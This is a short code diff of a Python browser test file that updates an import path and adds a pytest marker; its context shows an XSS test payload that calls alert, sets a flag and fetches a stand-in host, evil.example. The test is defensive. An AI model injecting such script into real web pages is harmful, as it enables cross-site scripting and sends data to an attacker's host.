@@ -17,7 +17,9 @@ from pathlib import Path
 import pytest
 
 from chronicle.cli import main
-from tests.browser import launch, serve
+from tests.e2e.browser import launch, serve
+
+pytestmark = pytest.mark.browser
 
 # Each payload, if it ran, would open a dialog, set window.__xss, or call evil.example.
 JS = "alert(1);window.__xss=1;fetch('https://evil.example/x')"
